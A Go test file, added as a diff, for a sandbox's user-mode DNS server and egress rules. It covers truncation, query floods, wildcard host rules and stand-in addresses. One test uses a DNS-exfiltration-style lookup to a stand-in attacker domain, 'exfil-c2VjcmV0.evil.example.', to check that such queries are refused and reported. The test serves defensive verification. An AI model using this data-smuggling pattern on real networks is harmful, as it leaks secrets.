@@ -1,0 +1,320 @@
+package usernet
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"net"
+	"net/netip"
+	"os"
+	"strconv"
+	"strings"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+
+	"github.com/mayfly-run/mayfly/internal/network"
+)
+
+// ask sends a question over UDP or TCP and returns the answer.
+func (w *world) ask(kind string, server netip.Addr, name string, qtype dnsmessage.Type, more ...dnsmessage.Resource) dnsmessage.Message {
+	w.t.Helper()
+	m := dnsmessage.Message{
+		Header:      dnsmessage.Header{ID: 4711, RecursionDesired: true},
+		Questions:   []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: qtype, Class: dnsmessage.ClassINET}},
+		Additionals: more,
+	}
+	query, err := m.Pack()
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	conn := w.mustDial(kind, net.JoinHostPort(server.String(), "53"))
+	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
+	if kind == "tcp" {
+		query = append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...)
+	}
+	if _, err := conn.Write(query); err != nil {
+		w.t.Fatal(err)
+	}
+	raw, err := readMessage(conn, kind)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	var answer dnsmessage.Message
+	if err := answer.Unpack(raw); err != nil {
+		w.t.Fatal(err)
+	}
+	if answer.ID != 4711 || !answer.Response || len(answer.Questions) != 1 || answer.Questions[0] != m.Questions[0] {
+		w.t.Fatalf("%+v doesn't answer %+v", answer, m)
+	}
+	return answer
+}
+
+func show(m dnsmessage.Message) string {
+	var out []string
+	for _, r := range m.Answers {
+		switch b := r.Body.(type) {
+		case *dnsmessage.AResource:
+			out = append(out, netip.AddrFrom4(b.A).String())
+		case *dnsmessage.AAAAResource:
+			out = append(out, netip.AddrFrom16(b.AAAA).String())
+		case *dnsmessage.TXTResource:
+			out = append(out, b.TXT...)
+		case *dnsmessage.CNAMEResource:
+			out = append(out, b.CNAME.String())
+		}
+	}
+	return strings.TrimPrefix(m.RCode.String(), "RCode") + " " + strings.Join(out, " ")
+}
+
+func TestDNS(t *testing.T) {
+	header := func(name string, kind dnsmessage.Type) dnsmessage.ResourceHeader {
+		return dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName(name), Type: kind, Class: dnsmessage.ClassINET, TTL: 60}
+	}
+	long := make([]string, 10)
+	for i := range long {
+		long[i] = strings.Repeat(strconv.Itoa(i), 200)
+	}
+	resolver := &fakeResolver{
+		t: t,
+		hosts: map[string][]string{
+			"both.example": {"203.0.113.10", "203.0.113.20", "2001:db8::10"}, "four.example": {"203.0.113.10"},
+			"gateway.example": {gateway4.String(), "198.19.0.1"},
+		},
+		records: map[string][]dnsmessage.Resource{
+			"txt.example.":   {{Header: header("txt.example.", dnsmessage.TypeTXT), Body: &dnsmessage.TXTResource{TXT: []string{"hello"}}}},
+			"alias.example.": {{Header: header("alias.example.", dnsmessage.TypeCNAME), Body: &dnsmessage.CNAMEResource{CNAME: dnsmessage.MustNewName("both.example.")}}},
+			"long.example.":  {{Header: header("long.example.", dnsmessage.TypeTXT), Body: &dnsmessage.TXTResource{TXT: long}}},
+		},
+	}
+	w := newWorld(t, Config{Policy: policy(network.ModePublic), Resolver: resolver})
+	for _, c := range []struct {
+		name string
+		kind dnsmessage.Type
+		want string
+	}{
+		{"both.example.", dnsmessage.TypeA, "Success 203.0.113.10 203.0.113.20"},
+		{"BOTH.Example.", dnsmessage.TypeA, "Success 203.0.113.10 203.0.113.20"},
+		{"both.example.", dnsmessage.TypeAAAA, "Success 2001:db8::10"},
+		{"four.example.", dnsmessage.TypeAAAA, "Success "},
+		{"missing.example.", dnsmessage.TypeA, "NameError "},
+		{"txt.example.", dnsmessage.TypeTXT, "Success hello"},
+		{"alias.example.", dnsmessage.TypeCNAME, "Success both.example."},
+		{"missing.example.", dnsmessage.TypeTXT, "NameError "},
+		{"both.example.", typeHTTPS, "Success "},
+		{"gateway.example.", dnsmessage.TypeA, "Success "}, // our own addresses have no other name
+		{"host.mayfly.internal.", dnsmessage.TypeA, "Success 198.18.0.1"},
+		{"host.mayfly.internal.", dnsmessage.TypeAAAA, "Success fd6d:6179:666c:7900::1"},
+		{"host.mayfly.internal.", dnsmessage.TypeTXT, "Success "},
+	} {
+		for _, server := range []netip.Addr{gateway4, gateway6} {
+			for _, kind := range []string{"udp", "tcp"} {
+				if got := show(w.ask(kind, server, c.name, c.kind)); got != c.want {
+					t.Errorf("%s %s over %s to %s: %q, not %q", c.name, c.kind, kind, server, got, c.want)
+				}
+			}
+		}
+	}
+	for _, question := range resolver.questions() {
+		if strings.Contains(question, "mayfly") {
+			t.Errorf("%s was asked upstream", question)
+		}
+	}
+
+	t.Run("truncation", func(t *testing.T) {
+		if m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT); !m.Truncated || len(m.Answers) != 0 || len(m.Additionals) != 0 {
+			t.Errorf("%+v", m)
+		}
+		if m := w.ask("tcp", gateway4, "long.example.", dnsmessage.TypeTXT); m.Truncated || len(m.Answers) != 1 {
+			t.Errorf("over TCP %+v", m)
+		}
+		opt := optRecord()
+		m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT, opt)
+		if m.Truncated || len(m.Answers) != 1 || len(m.Additionals) != 1 || m.Additionals[0].Header.Type != dnsmessage.TypeOPT {
+			t.Errorf("with EDNS %+v", m)
+		}
+		opt.Header.Class = 1000
+		if m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT, opt); !m.Truncated {
+			t.Errorf("with little EDNS %+v", m)
+		}
+	})
+}
+
+// TestDNSSideBySide asks, on one socket, a slow name and then a fast one, as
+// musl and glibc ask for A and AAAA.
+func TestDNSSideBySide(t *testing.T) {
+	slow := &slowResolver{release: make(chan struct{})}
+	w := newWorld(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
+	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
+	for id, name := range []string{"slow.example.", "fast.example."} {
+		m := dnsmessage.Message{Header: dnsmessage.Header{ID: uint16(id)}, Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
+		query, _ := m.Pack()
+		_, _ = conn.Write(query)
+	}
+	buf := make([]byte, 512)
+	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+	if _, err := conn.Read(buf); err != nil || binary.BigEndian.Uint16(buf) != 1 {
+		t.Errorf("the fast name's answer didn't come first: %d, %v", binary.BigEndian.Uint16(buf), err)
+	}
+	close(slow.release)
+	if _, err := conn.Read(buf); err != nil || binary.BigEndian.Uint16(buf) != 0 {
+		t.Errorf("the slow name's answer: %d, %v", binary.BigEndian.Uint16(buf), err)
+	}
+}
+
+type slowResolver struct {
+	release chan struct{}
+	open    atomic.Int64
+	most    atomic.Int64
+}
+
+func (r *slowResolver) Addresses(ctx context.Context, _, name string) ([]netip.Addr, error) {
+	r.most.Store(max(r.most.Load(), r.open.Add(1)))
+	defer r.open.Add(-1)
+	if name != "fast.example" {
+		select {
+		case <-r.release:
+		case <-ctx.Done():
+			return nil, ctx.Err()
+		}
+	}
+	return []netip.Addr{netip.MustParseAddr("203.0.113.10")}, nil
+}
+
+func (r *slowResolver) Records(context.Context, dnsmessage.Question) ([]dnsmessage.Resource, dnsmessage.RCode, error) {
+	return nil, dnsmessage.RCodeSuccess, nil
+}
+
+// TestDNSFlood asks much more than is answered at once.
+func TestDNSFlood(t *testing.T) {
+	slow := &slowResolver{release: make(chan struct{})}
+	w := newWorld(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
+	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
+	for i := range 5000 {
+		m := dnsmessage.Message{Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(fmt.Sprintf("n%d.example.", i)), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
+		query, _ := m.Pack()
+		_, _ = conn.Write(query)
+	}
+	time.Sleep(100 * time.Millisecond)
+	if most := slow.most.Load(); most > 2*maxQuestions || most < maxQuestions/2 {
+		t.Errorf("%d lookups at once, at a limit of %d", most, maxQuestions)
+	}
+	w.close() // and doesn't wait for them
+}
+
+// TestHostRule reaches an address by a rule for its name, and not before the
+// name was looked up.
+func TestHostRule(t *testing.T) {
+	to := serve(t, "203.0.113.10", echoTCP)
+	other := serve(t, "203.0.113.20", echoTCP)
+	resolver := &fakeResolver{t: t, hosts: map[string][]string{"api.example": {"203.0.113.10"}, "a.wild.example": {"203.0.113.20"}, "wild.example": {"203.0.113.20"}}}
+	w := newWorld(t, Config{Policy: policy(network.ModeList, "{host: api.example}", `{host: "*.wild.example"}`), Resolver: resolver})
+	reach := func(to netip.AddrPort) error {
+		conn, err := w.dial("tcp", to.String())
+		if err == nil {
+			conn.Close()
+		}
+		return err
+	}
+	if err := reach(to); !errors.Is(err, syscall.ECONNREFUSED) {
+		t.Fatalf("before the lookup: %v", err)
+	}
+	w.ask("udp", gateway4, "api.example.", dnsmessage.TypeA)
+	if err := reach(to); err != nil {
+		t.Fatalf("after the lookup: %v", err)
+	}
+	if err := reach(other); !errors.Is(err, syscall.ECONNREFUSED) {
+		t.Fatalf("another address: %v", err)
+	}
+	if got := show(w.ask("udp", gateway4, "wild.example.", dnsmessage.TypeA)); !strings.HasPrefix(got, "Success 198.19.") {
+		t.Errorf("the parent of a wildcard is %s", got)
+	}
+	w.ask("udp", gateway4, "a.wild.example.", dnsmessage.TypeA)
+	if err := reach(other); err != nil {
+		t.Fatalf("a name below the wildcard: %v", err)
+	}
+}
+
+// TestStandIn asks for a name that no rule is about: it isn't asked upstream,
+// and the connection that follows is reported by name and port.
+func TestStandIn(t *testing.T) {
+	resolver := &fakeResolver{t: t}
+	w := newWorld(t, Config{Policy: policy(network.ModeList, "{host: api.example}"), Resolver: resolver})
+	for range 2 {
+		addrs, err := w.resolver().LookupNetIP(t.Context(), "ip", "exfil-c2VjcmV0.evil.example.")
+		if err != nil || len(addrs) != 1 {
+			t.Fatal(addrs, err)
+		}
+		if _, err := w.dial("tcp", netip.AddrPortFrom(addrs[0], 443).String()); !errors.Is(err, syscall.ECONNREFUSED) {
+			t.Fatal(err)
+		}
+	}
+	for _, kind := range []dnsmessage.Type{dnsmessage.TypeTXT, dnsmessage.TypeMX, dnsmessage.TypeCNAME, dnsmessage.TypePTR, dnsmessage.TypeALL} {
+		if got := show(w.ask("udp", gateway4, "exfil-c2VjcmV0.evil.example.", kind)); got != "Refused " {
+			t.Errorf("%s: %s", kind, got)
+		}
+	}
+	if asked := resolver.questions(); len(asked) != 0 {
+		t.Errorf("asked upstream: %q", asked)
+	}
+	c := w.report("tcp", "", 443)
+	if c.Allowed || c.Host != "exfil-c2vjcmv0.evil.example" || c.Suggest != `{host: "exfil-c2vjcmv0.evil.example", ports: [443]}` ||
+		c.Reason != "no egress rule allows exfil-c2vjcmv0.evil.example tcp port 443" {
+		t.Errorf("report %+v", c)
+	}
+	if n := len(w.connections()); n != 1 {
+		t.Errorf("%d reports", n)
+	}
+	// An address of that range that stands for nothing.
+	if _, err := w.dial("tcp", "198.19.200.200:80"); !errors.Is(err, syscall.ECONNREFUSED) {
+		t.Fatal(err)
+	}
+	for _, c := range w.connections() {
+		if c.Allowed || c.Reason == "" {
+			t.Errorf("report %+v", c)
+		}
+	}
+}
+
+// TestStandInsBounded asks for more names than there are stand-ins.
+func TestStandInsBounded(t *testing.T) {
+	w := newWorld(t, Config{Policy: policy(network.ModeList, "{host: api.example}")})
+	seen := map[netip.Addr]bool{}
+	for i := range maxStandIns + 100 {
+		if a := w.n.names.standIn(strconv.Itoa(i)); a.IsValid() {
+			seen[a] = true
+		}
+	}
+	if len(seen) != maxStandIns {
+		t.Errorf("%d stand-ins", len(seen))
+	}
+	for i := range maxNamedAddresses + 100 {
+		w.n.names.learn("n.example", netip.AddrFrom4([4]byte{203, 1, byte(i >> 8), byte(i)}), time.Second)
+	}
+	if len(w.n.names.byAddr) > maxNamedAddresses {
+		t.Errorf("%d addresses remembered", len(w.n.names.byAddr))
+	}
+	for a := range seen {
+		if len(w.n.names.of(a)) != 1 {
+			t.Fatalf("%s lost its name", a)
+		}
+	}
+	if got := show(w.ask("udp", gateway4, "more.example.", dnsmessage.TypeA)); got != "Refused " {
+		t.Error(got)
+	}
+}
+
+// TestDNSOverTCPBounded sends what no question is.
+func TestDNSOverTCPBounded(t *testing.T) {
+	w := newWorld(t, Config{Policy: policy(network.ModePublic)})
+	conn := w.mustDial("tcp", net.JoinHostPort(gateway4.String(), "53"))
+	_, _ = conn.Write([]byte{0xff, 0xff, 0})
+	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+	if _, err := conn.Read(make([]byte, 1)); err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
+		t.Errorf("the server waits for 64 KiB of question: %v", err)
+	}
+}
